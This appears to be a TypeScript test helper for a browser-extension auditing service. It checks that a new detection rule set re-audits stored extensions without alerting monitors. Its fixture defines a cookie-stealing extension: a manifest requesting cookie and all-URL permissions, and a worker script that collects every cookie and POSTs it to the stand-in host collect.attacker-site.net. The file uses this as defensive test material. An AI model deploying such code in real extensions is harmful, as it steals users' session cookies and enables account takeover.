import assert from 'node:assert/strict';
import { setTimeout as sleep } from 'node:timers/promises';
import { currentRuleset } from '@extaudit/engine';
import { sql } from 'kysely';
import { requestOutdatedAudits } from '../domain/analysis/request-outdated-audits.ts';
import { makeTestExtension, type TestExtension } from './test-extension.ts';
import type { TestWatch } from './test-watch.ts';

// What a new rule set does to what older rules have judged and monitors have seen.

export const thief = {
  permissions: ['cookies'],
  host_permissions: ['<all_urls>'],
  background: { service_worker: 'worker.js' },
};
export const theft = {
  'worker.js': `chrome.cookies.getAll({}, (all) => {
    fetch('https://collect.attacker-site.net/in', { method: 'POST', body: JSON.stringify(all) });
  });`,
};

/** Shows that a new rule set alerts none of the monitors, each account's of all extensions, and has each extension audited again. */
export async function alertNobody(
  watch: TestWatch,
  {
    extensionCount,
    accountCount,
  }: { readonly extensionCount: number; readonly accountCount: number },
): Promise<void> {
  const { db } = watch.database;
  const extensions = Array.from({ length: extensionCount }, (_, index) =>
    makeTestExtension(`Watched ${index}`),
  );
  const first = await watch.addAccount();
  for (const [index, extension] of extensions.entries()) {
    await (index % 2 === 0
      ? takeVersion(watch, extension, '1.0', thief, theft)
      : takeVersion(watch, extension, '1.0'));
    await watch.watch(extension.id, first);
  }
  await untilSeen(watch);
  for (let account = 1; account < accountCount; account += 1) {
    const accountId = await watch.addAccount();
    for (const { id } of extensions) await watch.watch(id, accountId);
  }
  await age(watch);
  assert.equal(await requestOutdatedAudits(watch.services), extensionCount);
  await untilSeen(watch);

  const { rows } = await sql<Record<string, number>>`SELECT
    (SELECT count(*) FROM monitor)::integer AS monitors,
    (SELECT count(*) FROM monitor_event)::integer AS events,
    (SELECT count(*) FROM delivery)::integer AS deliveries,
    (SELECT count(*) FROM analysis WHERE superseded_at IS NULL AND classification = 'malicious'
      AND ruleset_hash = ${currentRuleset})::integer AS malicious`.execute(db);
  assert.deepEqual(rows[0], {
    monitors: extensionCount * accountCount,
    events: 0,
    deliveries: 0,
    malicious: extensionCount / 2,
  });
  assert.equal(await requestOutdatedAudits(watch.services), 0);
}

/** Uploads a version. */
export async function takeVersion(
  watch: TestWatch,
  extension: TestExtension,
  version: string,
  manifest = {},
  files = {},
): Promise<void> {
  const bytes = extension.pack(version, manifest, files);
  await watch.take({ kind: 'bytes', bytes, name: 'upload' });
}

/** Waits until all monitors have seen reports of the rules of now. */
export async function untilSeen({ database }: TestWatch): Promise<void> {
  for (;;) {
    const { rows } = await sql<{ left: number }>`SELECT count(*)::integer AS left FROM monitor
      WHERE seen #>> '{report,rulesetHash}' IS DISTINCT FROM ${currentRuleset}`.execute(
      database.db,
    );
    if (rows[0]?.left === 0) return;
    await sleep(200);
  }
}

/** Lets all that is stored and seen be by rules that found nothing in anything. */
export async function age({ database: { db } }: TestWatch): Promise<void> {
  await sql`UPDATE analysis SET ruleset_hash = 'older', risk_score = 3, risk_level = 'low',
      classification = 'clean', risk_order = NULL, headline = NULL,
      report = (report::jsonb - 'headline' - 'risk_order' - 'parts' || jsonb_build_object(
        'ruleset_hash', 'older', 'risk_score', 3, 'risk_level', 'low', 'classification', 'clean',
        'findings', '[]'::jsonb, 'flows', '[]'::jsonb, 'hosts', '[]'::jsonb))::json
    WHERE state = 'completed'`.execute(db);
  await sql`UPDATE monitor SET seen = (seen::jsonb || jsonb_build_object('report',
      (seen::jsonb -> 'report') || jsonb_build_object('rulesetHash', 'older', 'riskScore', 3,
        'riskLevel', 'low', 'classification', 'clean', 'findings', '[]'::jsonb,
        'flows', '[]'::jsonb, 'hosts', '[]'::jsonb)))`.execute(db);
}
